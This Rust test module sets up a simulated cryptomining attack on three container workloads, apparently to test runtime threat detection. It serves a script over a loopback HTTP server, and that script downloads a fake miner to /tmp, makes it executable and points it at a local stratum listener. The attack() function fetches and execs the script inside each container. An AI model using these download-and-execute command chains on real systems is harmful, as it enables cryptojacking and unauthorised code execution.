//! The mission scenario, for end-to-end tests: three workloads in two namespaces; in each,
//! a shell script fetched over HTTP downloads a "miner" (a harmless static binary that
//! connects to a stratum URL), makes it executable and runs it.

use std::{
    io::{Read, Write},
    net::TcpListener,
    path::{Path, PathBuf},
    process::Command,
    sync::{
        atomic::{AtomicBool, Ordering},
        Arc,
    },
    thread::JoinHandle,
};

use anyhow::{bail, Context, Result};

use crate::{
    containerd::Containerd,
    pod::{Container, PodSpec},
};

pub const SCRIPT: &str = "malicious-bin-event-gen.sh";
pub const POOL_PORT: u16 = 3333;

/// (namespace, pod, container) of the three workloads.
pub const WORKLOADS: [(&str, &str, &str); 3] = [
    ("risk-10-aws-bedrock-java", "bedrock-java-api-0", "app"),
    (
        "risk-10-aws-bedrock-java",
        "bedrock-java-worker-0",
        "worker",
    ),
    ("risk-11-payments", "payments-api-0", "app"),
];

/// Builds the fake miner (static, so it runs in a busybox image).
pub fn build_fake_miner(dir: &Path) -> Result<PathBuf> {
    build_static("fake-miner.c", &dir.join("easyminer"))
}

/// Compiles a C fixture from tests/fixtures statically to `out`.
pub fn build_static(fixture: &str, out: &Path) -> Result<PathBuf> {
    let src = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures")
        .join(fixture);
    let out = out.to_path_buf();
    let st = Command::new("gcc")
        .args(["-static", "-O2", "-o"])
        .arg(&out)
        .arg(&src)
        .status()
        .context("running gcc")?;
    if !st.success() {
        bail!("gcc -static failed for {}", src.display());
    }
    Ok(out)
}

/// A background accept loop on `l` (non-blocking, polled) until the returned flag is set.
fn serve(
    l: TcpListener,
    mut handle: impl FnMut(std::net::TcpStream) + Send + 'static,
) -> Result<(Arc<AtomicBool>, JoinHandle<()>)> {
    l.set_nonblocking(true)?;
    let stop = Arc::new(AtomicBool::new(false));
    let s = stop.clone();
    let thread = std::thread::spawn(move || {
        while !s.load(Ordering::Relaxed) {
            match l.accept() {
                Ok((c, _)) => {
                    let _ = c.set_nonblocking(false);
                    handle(c);
                }
                Err(_) => std::thread::sleep(std::time::Duration::from_millis(10)),
            }
        }
    });
    Ok((stop, thread))
}

/// A tiny HTTP/1.0 server on loopback serving files by name (busybox wget speaks it).
pub struct FileServer {
    pub port: u16,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl FileServer {
    /// `files` gets the server's port (the attacker's script embeds it).
    pub fn start(files: impl FnOnce(u16) -> Vec<(String, Vec<u8>)>) -> Result<FileServer> {
        let l = TcpListener::bind("127.0.0.1:0")?;
        let port = l.local_addr()?.port();
        let files = files(port);
        let (stop, thread) = serve(l, move |mut c| {
            let mut buf = [0u8; 4096];
            let n = c.read(&mut buf).unwrap_or(0);
            let req = String::from_utf8_lossy(&buf[..n]);
            let path = req
                .split_whitespace()
                .nth(1)
                .unwrap_or("/")
                .trim_start_matches('/')
                .to_string();
            match files.iter().find(|(name, _)| *name == path) {
                Some((_, body)) => {
                    let _ = write!(
                        c,
                        "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\n\r\n",
                        body.len()
                    );
                    let _ = c.write_all(body);
                }
                None => {
                    let _ = c.write_all(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n");
                }
            }
        })?;
        Ok(FileServer {
            port,
            stop,
            thread: Some(thread),
        })
    }
}

impl Drop for FileServer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A listener standing in for the mining pool: accepts and drains connections.
pub struct Pool {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Pool {
    pub fn start() -> Result<Pool> {
        let l = TcpListener::bind(("127.0.0.1", POOL_PORT))
            .with_context(|| format!("binding 127.0.0.1:{POOL_PORT}"))?;
        let (stop, thread) = serve(l, |mut c| {
            let mut sink = Vec::new();
            let _ = c.read_to_end(&mut sink);
        })?;
        Ok(Pool {
            stop,
            thread: Some(thread),
        })
    }
}

impl Drop for Pool {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// The attacker's script, as served.
pub fn script(http_port: u16) -> String {
    format!(
        "#!/bin/sh\n\
         # fetch the miner, make it executable, start it\n\
         wget -q http://127.0.0.1:{http_port}/easyminer -O /tmp/easyminer\n\
         chmod +x /tmp/easyminer\n\
         /tmp/easyminer --url stratum+tcp://127.0.0.1:{POOL_PORT}\n"
    )
}

/// Starts the three workloads (host network, so they reach the loopback servers).
pub fn start_workloads(ctrd: &Containerd) -> Result<Vec<Container>> {
    WORKLOADS
        .iter()
        .map(|(ns, pod, name)| {
            let spec = PodSpec::new(ns, pod, name)?
                .host_network(true)
                .label("app", pod);
            ctrd.run_pod_container(&spec)
        })
        .collect()
}

/// The foothold: in one process tree, fetch the script and exec it as
/// `sh ./malicious-bin-event-gen.sh` (same pid), which fetches and runs the miner.
pub fn attack(c: &Container, http_port: u16) -> Result<()> {
    let cmd = format!(
        "cd /tmp && wget -q http://127.0.0.1:{http_port}/{SCRIPT} -O {SCRIPT} && exec sh ./{SCRIPT}"
    );
    let out = c.exec(&["sh", "-c", &cmd])?;
    if !out.status.success() {
        bail!(
            "attack in {} failed: {}",
            c.id,
            String::from_utf8_lossy(&out.stderr)
        );
    }
    Ok(())
}
